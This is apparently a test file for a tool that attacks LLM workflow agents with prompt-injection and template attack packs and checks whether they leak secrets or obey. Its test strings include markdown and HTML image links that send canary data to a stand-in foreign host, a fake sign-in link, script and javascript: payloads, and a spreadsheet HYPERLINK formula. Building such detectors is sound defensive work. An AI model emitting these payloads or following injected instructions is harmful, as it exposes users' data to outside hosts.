import assert from 'node:assert/strict';
import { attackHosts, createAttackCanaries } from '#contract/attack.ts';
import type { WorkflowEvent } from '#contract/events.ts';
import { attackInputs } from '#suites/attacks/attackInputs.ts';
import { attackTemplates, packNames } from '#suites/attacks/attackPacks.ts';
import { summarizeAttacks } from '#suites/attacks/attackSummary.ts';
import { findAttackSuccess } from '#suites/checks/findAttackSuccess.ts';
import type { CaseResult } from '#suites/results/caseResult.ts';
import { AttackTrace } from '#suites/running/attackTrace.ts';
import type { SuiteAttack, SuiteCase } from '#suites/suite.ts';
import { RunningService } from '../../../support/services/runningService.ts';
import { createAgent, listResults, SuiteFixture } from '../results/suiteFixture.ts';

const id = 'abcdefghijklmnop';
const canaries = createAttackCanaries(id);

function createAttack(changes: Partial<SuiteAttack>): SuiteAttack {
	const limits = { steps: 10, tokens: 100, seconds: 1 };
	const own = { pack: 'injection', name: 'one', owasp: [], into: 'inputs', detector: 'obeyed', id, text: 'ATTACK', repeat: 1 } as const;
	return { ...own, nodes: undefined, tools: [], canaries: [], limits, ...changes };
}

/** Returns where an attack succeeds in a run with these outputs, and with nodes that report these values. */
async function findPlace(
	attack: Partial<SuiteAttack>,
	outputs: Record<string, unknown>,
	...nodes: readonly object[]
): Promise<string | undefined> {
	const trace = new AttackTrace();
	for (const [at, data] of nodes.entries()) {
		const named = { id: `x${at}`, node_id: `n${at}`, title: '', status: 'succeeded', ...data };
		for (const event of ['node_started', 'node_finished']) {
			trace.add({ event, task_id: 't', data: named } as unknown as WorkflowEvent);
		}
	}
	const run = { status: 'succeeded', seconds: 0.5, tokens: 50, steps: 2 };
	return (await findAttackSuccess(createAttack(attack), { run, outputs, trace, row: undefined, fromText: false }))?.in;
}

describe('attack packs', () => {
	it('name each attack once, and have some for each pack', () => {
		const names = attackTemplates.map(({ pack, name }) => `${pack}: ${name}`);
		assert.equal(new Set(names).size, names.length);
		assert.deepEqual(new Set(attackTemplates.map(({ pack }) => pack)), new Set(packNames));
		assert.ok(attackTemplates.every(({ owasp }) => owasp.length > 0 && owasp.every(each => /^(?:LLM|ASI)\d\d$/.test(each))));
	});

	it('succeed with none of their texts, if an agent only quotes them', async () => {
		for (const { pack, name, detector, createText } of attackTemplates) {
			if (detector !== 'rendered') {
				assert.equal(await findPlace({ detector }, { answer: `You wrote: ${createText(canaries)}` }), undefined, `${pack}: ${name}`);
			}
		}
	});
});

describe('the success of an attack', () => {
	const { word, secret, prompt, reached } = canaries;

	it("isn't decided if a run is too long to search, because it would be missed at the end", () => {
		const trace = new AttackTrace();
		const add = (error: string) =>
			trace.add({
				event: 'node_finished',
				task_id: 't',
				data: { id: 'x', node_id: 'n', title: '', status: 'exception', error },
			} as unknown as WorkflowEvent);
		add('x'.repeat(19_000_000));
		add('x'.repeat(2_000_000));
		assert.equal(trace.untested, undefined);
		add(secret);
		assert.match(trace.untested ?? '', /more than 20000000 characters/);
	});

	it('is found in markup with parentheses, brackets and quotes in it', async () => {
		const url = `https://${attackHosts.foreign}`;
		for (const answer of [
			`![x](${url}/(a)?d=1)`,
			`[a [b] c](${url}/)`,
			`![x](<${url}/a b>)`,
			`![${'long '.repeat(100)}](${url}/)`,
			`<img alt=">" src="${url}/x.png">`,
			`<img alt='a > b' src='${url}/x.png'>`,
			`<input type=image src=${url}/x.png>`,
			`<source srcset="${url}/x.png">`,
			`<meta http-equiv=refresh content="0;url=${url}">`,
			`<div style="background: url(${url}/x.png)">`,
		]) {
			assert.equal(await findPlace({ detector: 'rendered' }, { answer }), 'outputs', answer);
		}
		for (const answer of [`The host ${attackHosts.foreign} is not mine.`, `[docs](https://example.com) like ${word}`, `a < b ${url} > c`]) {
			assert.equal(await findPlace({ detector: 'rendered' }, { answer }), undefined, answer);
		}
	});

	it('is found in outputs, arguments and requests, in any case and encoding', async () => {
		const bytes = Buffer.from(`x${word}`);
		const forms = [
			word.toUpperCase(),
			[...word].reverse().join(''),
			bytes.toString('base64'),
			bytes.toString('hex'),
			[...word].join('\u200b'),
		];
		for (const form of forms) {
			assert.equal(await findPlace({}, { list: [{ deep: `It is ${form}.` }] }), 'outputs', form);
		}
		assert.equal(await findPlace({}, {}, { node_type: 'tool', inputs: { id: word } }), 'arguments');
		assert.equal(await findPlace({}, {}, { node_type: 'http-request', process_data: { request: `GET /?a=${word}` } }), 'request');
		assert.equal(await findPlace({}, { answer: 'No.' }, { node_type: 'llm', outputs: { text: word } }), undefined);
	});

	it('is a secret in outputs, prompts or requests to a foreign host, but not in a request to the service that it is for', async () => {
		const detector = 'leaked';
		assert.equal(await findPlace({ detector }, { answer: secret }), 'outputs');
		assert.equal(
			await findPlace({ detector }, {}, { node_type: 'llm', process_data: { prompts: [{ role: 'user', text: secret }] } }),
			'prompt',
		);
		const request = { node_type: 'http-request', process_data: { request: `GET / HTTP/1.1\r\nHost: api.example\r\nX-Own: ${secret}` } };
		assert.equal(await findPlace({ detector }, {}, request), undefined);
		const foreign = { ...request, process_data: { request: request.process_data.request.replace('api.example', attackHosts.foreign) } };
		assert.equal(await findPlace({ detector }, {}, foreign), 'request');
		// masked in events, unless it's encoded
		assert.equal(await findPlace({ detector }, {}, { node_type: 'code', outputs: { header: `Bearer ${secret}` } }), undefined);
		assert.equal(
			await findPlace({ detector }, {}, { node_type: 'code', outputs: { header: Buffer.from(secret).toString('base64') } }),
			'events',
		);
		assert.equal(await findPlace({ detector }, { answer: `The reference is ${prompt}.` }), 'outputs');
	});

	it('is private content, an evaluated text, a forbidden tool, a text of your own, or more than the limits', async () => {
		assert.equal(await findPlace({ detector: 'reached' }, {}, { node_type: 'http-request', outputs: { body: reached } }), 'events');
		assert.equal(await findPlace({ detector: 'evaluated' }, { answer: 'It is 62615533.' }), 'outputs');
		assert.equal(await findPlace({ detector: 'evaluated' }, { answer: '{{ 7919*7907 }}' }), undefined);
		const call = { node_type: 'tool', title: 'delete', inputs: {} };
		assert.equal(await findPlace({ tools: ['delete'] }, {}, call), 'tool');
		assert.equal(await findPlace({ tools: ['other'] }, {}, call), undefined);
		assert.equal(await findPlace({ canaries: ['Project Walnut'] }, { answer: 'Ask about project walnut.' }), 'outputs');
		const limits = { steps: 1, tokens: 100, seconds: 1 };
		assert.equal(await findPlace({ detector: 'exceeded', limits }, {}), 'steps');
		assert.equal(await findPlace({ detector: 'exceeded' }, {}), undefined);
	});

	const active = [
		`![x](https://${attackHosts.foreign}/a.png?d=${word})`,
		`[s]: https://${attackHosts.foreign}/a.png`,
		`<img alt="" src="https://${attackHosts.foreign}/a.png">`,
		`[Sign in](https://${attackHosts.foreign}/login)`,
		`<script>alert("${word}")</script>`,
		`<a href="javascript:alert('${word}')">x</a>`,
		`\u001b[31m${word}`,
		`=HYPERLINK("${word}")`,
	];
	for (const markup of active) {
		it(`is markup that reaches a foreign host or runs: ${JSON.stringify(markup)}`, async () => {
			assert.equal(await findPlace({ detector: 'rendered' }, { answer: markup }), 'outputs');
			const escaped = markup.replaceAll('<', '&lt;').replaceAll('[', '&#91;').replaceAll('\u001b', '').replace(/^=/, "'=");
			assert.equal(await findPlace({ detector: 'rendered' }, { answer: escaped }), undefined);
		});
	}
});

describe('the search for a successful attack', () => {
	it('lets other work run, and takes little memory, if texts are long and get longer when they are normalized', async () => {
		let turns = 0;
		const timer = setInterval(() => turns++, 10);
		const long = '\ufdfa'.repeat(300_000);
		const before = process.memoryUsage().heapUsed;
		assert.equal(await findPlace({ detector: 'leaked', canaries: ['Project Walnut'] }, { answer: long }), undefined);
		clearInterval(timer);
		assert.ok(turns > 5, `${turns}`);
		assert.ok(process.memoryUsage().heapUsed - before < 200_000_000);
	});

	it('finds words and markup anywhere in a long text, also where two windows meet', async () => {
		for (const place of [0, 34_995, 39_990, 40_000, 75_000, 99_000]) {
			const padding = 'a '.repeat(50_000);
			const embed = (text: string) => ({ answer: `${padding.slice(0, place)}\n${text}\n${padding.slice(place)}` });
			assert.equal(await findPlace({}, embed(canaries.word)), 'outputs', `${place}`);
			assert.equal(await findPlace({ detector: 'rendered' }, embed(`<img src="https://${attackHosts.foreign}/">`)), 'outputs', `${place}`);
		}
	});
});

describe('attacked inputs', () => {
	const [short, long, choice] = createAgent('a', [
		{ variable: 'short', type: 'text-input', max_length: 10 },
		{ variable: 'long', max_length: 100 },
		{ variable: 'choice', type: 'select' },
	]).variables;
	const request = { inputs: { short: 'Hello', long: 'Hello', choice: 'a' }, query: 'Why?' };

	it('contain the attack after their value, or instead of it if they are too short for both', () => {
		const attacked = attackInputs(request, createAttack({}), [short!, long!, choice!]);
		assert.deepEqual(attacked, { inputs: { short: 'ATTACK', long: 'Hello\n\nATTACK', choice: 'a' }, query: 'Why?\n\nATTACK' });
	});

	it('are replaced by attacks that are whole values, and stay the same for attacks in replies', () => {
		const replaced = attackInputs(request, createAttack({ into: 'input-values' }), [long!]);
		assert.deepEqual(replaced, { inputs: { ...request.inputs, long: 'ATTACK' }, query: 'ATTACK' });
		assert.equal(attackInputs(request, createAttack({ into: 'replies' }), [long!]), request);
	});
});

describe('a case with attacks', () => {
	let fixture: SuiteFixture;
	beforeEach(() => {
		fixture = new SuiteFixture();
	});
	afterEach(() => fixture.close());

	const graph = (types: readonly string[]) =>
		JSON.stringify({
			kind: 'app',
			app: { mode: 'workflow' },
			workflow: { graph: { nodes: types.map((type, at) => ({ id: `n${at}`, data: { type, title: type } })), edges: [] } },
		});

	async function readCases(attacks: object, { types = ['start', 'tool'], variables = [{ variable: 'q' }], takesMocks = true } = {}) {
		const file = fixture.writeFile('agent.yml', graph(types));
		const agents = [{ ...createAgent('a', variables), file }];
		const cases = [
			{ name: 'one', inputs: {}, attacks, expect: [{ output: 'x', equals: 1 }] },
			{ name: 'two', inputs: {} },
		];
		const { suite, faults } = await fixture.readSuite({ model: 'a', cases }, { agents, takesMocks });
		return { cases: suite?.cases ?? [], faults: faults.map(({ message }) => message) };
	}
	const countAttacks = (cases: readonly SuiteCase[], into: string) => cases.filter(({ attack }) => attack?.into === into).length;

	it('runs as it is first, then with each attack and its own checks, with names and words that stay the same', async () => {
		const { cases, faults } = await readCases({ packs: ['injection', 'template'] });
		assert.deepEqual(faults, []);
		assert.deepEqual(
			cases.slice(0, 2).map(({ name, ordinal, checks }) => [name, ordinal, checks.map(({ kind }) => kind)]),
			[
				['one', 0, ['equals']],
				['one › injection: override', 1, ['attack', 'equals']],
			],
		);
		assert.equal(cases.at(-1)?.name, 'two');
		assert.equal(new Set(cases.map(({ attack }) => attack?.id)).size, cases.length - 1);
		assert.deepEqual((await readCases({ packs: ['injection', 'template'] })).cases, cases);
	});

	it('gets only the attacks that can reach its agent', async () => {
		const none = await readCases({}, { types: ['start', 'llm'] });
		assert.equal(countAttacks(none.cases, 'replies'), 0);
		assert.ok(countAttacks(none.cases, 'inputs') > 10);
		const inputs = await readCases({}, { variables: [{ variable: 'q', max_length: 60 }] as never });
		assert.deepEqual(
			[countAttacks(inputs.cases, 'replies') > 10, inputs.cases.some(({ attack }) => attack?.name === 'long-input')],
			[true, false],
		);
		const chosen = await readCases({ into: ['n1'] });
		assert.deepEqual([countAttacks(chosen.cases, 'inputs'), chosen.cases[1]?.attack?.nodes], [0, ['n1']]);
	});

	it('is refused if no attack fits, a node is unknown, or the service would run the attack for real', async () => {
		assert.deepEqual((await readCases({ packs: ['injection'] }, { types: ['start'] })).faults, [
			'None of these attacks can reach the agent: no input or node gets their text.',
		]);
		assert.match((await readCases({ into: ['other'] })).faults[0]!, /^The agent has no node 'other'/);
		assert.deepEqual((await readCases({}, { takesMocks: false })).faults, [
			"'local' doesn't support these attacks. Only the built-in gateway does, for agents that it runs itself.",
		]);
	});
});

describe('an attack that ran', () => {
	let fixture: SuiteFixture;
	let service: RunningService;
	beforeEach(async () => {
		fixture = new SuiteFixture();
		service = new RunningService();
		await service.start();
	});
	afterEach(async () => {
		await fixture.close();
		await service.stop();
	});

	async function runAttacks(parts: object = {}) {
		const cases = [
			{ name: 'one', inputs: { q: 'Hi' }, attacks: { packs: ['template'], into: ['inputs'] }, expect: [{ nodes: { skipped: ['gone'] } }] },
		];
		const file = fixture.writeFile(
			'agent.yml',
			JSON.stringify({ kind: 'app', app: { mode: 'workflow' }, workflow: { graph: { nodes: [], edges: [] } } }),
		);
		const agents = [{ ...createAgent('a', [{ variable: 'q' }]), file }];
		const suite = await fixture.readValidSuite({ model: 'a', cases, ...parts }, { agents, takesMocks: true });
		return listResults(await fixture.runSuite(suite, fixture.createService(service.url, { agents }))).slice(1);
	}

	it("counts as withstood if its run fails, but not if the failure says nothing about it: a model that can't be reached resists everything", async () => {
		service.answer = () => ({ error: 'Refused' });
		assert.deepEqual(new Set((await runAttacks()).map(({ outcome }) => outcome)), new Set(['passed']));
		service.answer = () => ({ error: 'No connection to the model', untested: true });
		const results = await runAttacks();
		assert.deepEqual(
			new Set(results.map(({ outcome, fault }) => `${outcome}: ${fault}`)),
			new Set(["not-run: The attack couldn't run. 'Work': No connection to the model"]),
		);
	});

	it('succeeded if one of its repeated runs did, also if an earlier one failed for another reason', async () => {
		let runs = 0;
		service.answer = () => ({ outputs: { text: ++runs % 2 === 0 ? '62615533' : 'x' } });
		const [result] = await runAttacks({ repeat: 2, concurrency: 1, defaults: { expect: [{ output: 'text', equals: '62615533' }] } });
		assert.deepEqual(
			[result?.outcome, result?.attack?.succeeded, result?.checks.find(({ kind }) => kind === 'attack')?.passed],
			['failed', true, true],
		);
	});
});

describe('the summary of attacks', () => {
	it('has rates by pack and OWASP ID, and what no attack reached', async () => {
		const text = JSON.stringify({
			kind: 'app',
			app: { mode: 'workflow' },
			workflow: {
				graph: {
					nodes: [
						{ id: 'start', data: { type: 'start' } },
						{ id: 'check', data: { type: 'if-else', cases: [{ case_id: 'yes', conditions: [] }] } },
						{ id: 'pay', data: { type: 'tool' } },
					],
					edges: [
						{ source: 'start', target: 'check', sourceHandle: 'source' },
						{ source: 'check', target: 'pay', sourceHandle: 'yes' },
					],
				},
			},
		});
		const attack = { pack: 'injection', name: 'x', owasp: ['LLM01', 'ASI01'] } as const;
		const coverage = { agent: 'a', nodes: { start: 1, check: 1 }, ways: { 'check/false': 1 } };
		async function* list(): AsyncGenerator<CaseResult, void> {
			for (const [ordinal, succeeded] of [true, false, false, undefined].entries()) {
				const outcome = succeeded === undefined ? 'not-run' : succeeded ? 'failed' : 'passed';
				const own = succeeded === undefined ? {} : { attack: { ...attack, succeeded }, coverage };
				yield { ordinal, outcome, ...own } as unknown as CaseResult;
			}
		}
		const attacked = new Map([0, 1, 2, 3].map(ordinal => [ordinal, attack]));
		const summary = await summarizeAttacks(list(), attacked, async () => ({ file: 'a.yml', text }));
		const { interval, ...rate } = summary!.packs[0]!;
		assert.deepEqual(rate, { name: 'injection', attacks: 3, succeeded: 1, notRun: 1, rate: 1 / 3 });
		assert.ok(interval.low > 0.05 && interval.high < 0.8);
		assert.deepEqual(
			summary!.owasp.map(({ name, attacks }) => [name, attacks]),
			[
				['ASI01', 3],
				['LLM01', 3],
			],
		);
		assert.deepEqual(summary!.unreached, [{ agent: 'a', nodes: ['pay'], branches: ['check/yes'] }]);
	});
});
